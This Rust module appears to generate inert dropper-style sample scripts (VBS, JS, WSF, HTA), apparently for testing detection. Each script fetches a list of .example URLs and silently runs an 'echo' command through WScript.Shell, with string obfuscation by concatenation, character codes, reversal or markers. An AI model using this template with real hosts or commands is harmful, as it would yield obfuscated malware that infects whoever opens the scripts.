//! Script files as droppers are written: each address of a list is asked for, then one line is run.
//!
//! What they run is `cmd /c echo`, the addresses lie in `.example`, and what came of them is not kept.

use crate::forge::Chance;
use crate::forge::macros::vba_literal as literal;

/// How the texts of a script are hidden.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Style {
    /// As they are.
    ScriptPlain,
    /// Cut into pieces and added up.
    ScriptConcatenation,
    /// `Chr`, or `String.fromCharCode`.
    ScriptCharacters,
    /// Written backwards.
    ScriptReversed,
    /// Markers that are taken out.
    ScriptMarkers,
}

impl Style {
    /// All of them.
    pub const ALL: [Self; 5] = [
        Self::ScriptPlain,
        Self::ScriptConcatenation,
        Self::ScriptCharacters,
        Self::ScriptReversed,
        Self::ScriptMarkers,
    ];
}

/// Languages of script files.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Language {
    /// VBScript in a file of its own.
    Vbs,
    /// JScript in a file of its own.
    Js,
    /// VBScript in a script component file.
    Wsf,
    /// VBScript in an application page.
    Hta,
}

impl Language {
    /// All of them.
    pub const ALL: [Self; 4] = [Self::Vbs, Self::Js, Self::Wsf, Self::Hta];

    /// The file name extension.
    pub fn extension(self) -> &'static str {
        match self {
            Self::Vbs => "vbs",
            Self::Js => "js",
            Self::Wsf => "wsf",
            Self::Hta => "hta",
        }
    }
}

/// A script that holds addresses and would run a command.
pub fn script(
    language: Language,
    style: Style,
    urls: &[String],
    command: &str,
    chance: &mut Chance,
) -> String {
    let is_js = language == Language::Js;
    let joined = urls.join("*");
    let [list, line, web, item] = [(); 4].map(|()| format!("{}{}", chance.identifier(), chance.below(100)));
    let (addresses, run) = (hidden(is_js, style, &joined, chance), hidden(is_js, style, command, chance));
    if is_js {
        return format!(
            "var {list} = ({addresses}).split(\"*\");\r\nvar {web} = new ActiveXObject(\"MSXML2.XMLHTTP\");\r\n\
             for (var {item} = 0; {item} < {list}.length; {item}++) {{\r\n  try {{\r\n    {web}.open(\"GET\", {list}[{item}], \
             false);\r\n    {web}.send();\r\n    if ({web}.status == 299) break;\r\n  }} catch (e) {{}}\r\n}}\r\n\
             var {line} = {run};\r\nnew ActiveXObject(\"WScript.Shell\").Run({line}, 0, false);\r\n"
        );
    }
    let code = format!(
        "On Error Resume Next\r\n{list} = Split({addresses}, \"*\")\r\nSet {web} = CreateObject(\"MSXML2.XMLHTTP\")\r\n\
         For Each {item} In {list}\r\n    {web}.Open \"GET\", {item}, False\r\n    {web}.Send\r\n    \
         If {web}.Status = 299 Then Exit For\r\nNext\r\n{line} = {run}\r\n\
         CreateObject(\"WScript.Shell\").Run {line}, 0, False\r\n"
    );
    match language {
        Language::Wsf => {
            format!("<job id=\"{list}\">\r\n<script language=\"VBScript\">\r\n{code}</script>\r\n</job>\r\n")
        }
        Language::Hta => {
            format!(
                "<html><head><script language=\"VBScript\">\r\n{code}</script></head><body></body></html>\r\n"
            )
        }
        _ => code,
    }
}

fn quoted(is_js: bool, text: &str) -> String {
    if is_js { format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\"")) } else { literal(text) }
}

/// An expression of the language for a text.
fn hidden(is_js: bool, style: Style, text: &str, chance: &mut Chance) -> String {
    let plus = if is_js { " + " } else { " & " };
    let backwards: String = text.chars().rev().collect();
    match style {
        Style::ScriptPlain => quoted(is_js, text),
        Style::ScriptConcatenation => {
            let parts: Vec<String> = chance.cut(text, 3, 12).iter().map(|part| quoted(is_js, part)).collect();
            parts.join(plus)
        }
        Style::ScriptCharacters => {
            let codes: Vec<String> = text.chars().map(|c| u32::from(c).to_string()).collect();
            if is_js {
                format!("String.fromCharCode({})", codes.join(","))
            } else {
                codes.iter().map(|code| format!("Chr({code})")).collect::<Vec<_>>().join(plus)
            }
        }
        Style::ScriptReversed if is_js => {
            format!("{}.split(\"\").reverse().join(\"\")", quoted(true, &backwards))
        }
        Style::ScriptReversed => format!("StrReverse({})", literal(&backwards)),
        Style::ScriptMarkers => {
            let mark = format!("#{}~", chance.below(10));
            let marked = quoted(is_js, &chance.cut(text, 2, 7).join(&mark));
            if is_js {
                format!("{marked}.split(\"{mark}\").join(\"\")")
            } else {
                format!("Replace({marked}, \"{mark}\", \"\")")
            }
        }
    }
}
